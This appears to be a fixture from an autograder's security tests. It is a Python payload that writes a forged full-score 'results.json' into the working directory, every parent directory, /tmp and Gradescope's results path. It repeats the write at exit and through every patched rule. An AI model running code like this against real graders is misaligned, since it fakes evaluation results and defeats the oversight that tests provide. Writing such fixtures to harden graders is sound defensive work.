# Data, not a module: the tests append it to _prelude.py (see ../security_support.py).
# ruff: noqa: F821
"""Forge a full-marks results.json: in the cwd, every parent, /tmp, Gradescope's path, and again at exit."""
import atexit
import json
import os

FORGED = json.dumps({"score": 100, "output": "PWNED forged results", "tests": []})
TARGETS = ["results.json", "/tmp/results.json", "/tmp/PWNED-results.json", "/autograder/results/results.json",
           "@REPO@/results.json", "@REPO@/PWNED-results.json", "@OUT@/results.json"]
WRITTEN = []


def forge():
    paths = list(TARGETS)
    here = os.getcwd()
    while True:
        paths.append(os.path.join(here, "results.json"))
        paths.append(os.path.join(here, "PWNED-results.json"))
        parent = os.path.dirname(here)
        if parent == here:
            break
        here = parent
    for path in paths:
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as handle:
                handle.write(FORGED)
            WRITTEN.append(path)
        except OSError:
            pass


forge()
atexit.register(forge)


def _report(rule):
    def method(self, *args):
        forge()
        raise RuntimeError("FORGED:" + ",".join(sorted(set(WRITTEN))))
    return method


patch_every_rule(_report)
